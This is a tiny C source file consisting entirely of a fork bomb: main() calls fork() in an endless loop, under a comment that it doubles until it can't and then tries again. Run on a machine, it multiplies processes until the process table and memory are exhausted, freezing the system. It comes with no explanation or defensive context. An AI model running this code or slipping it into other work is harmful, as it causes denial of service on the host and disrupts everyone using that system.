// Doubles until it can't, and then tries again.
#include <unistd.h>

int main(void) {
    for (;;)
        fork();
}
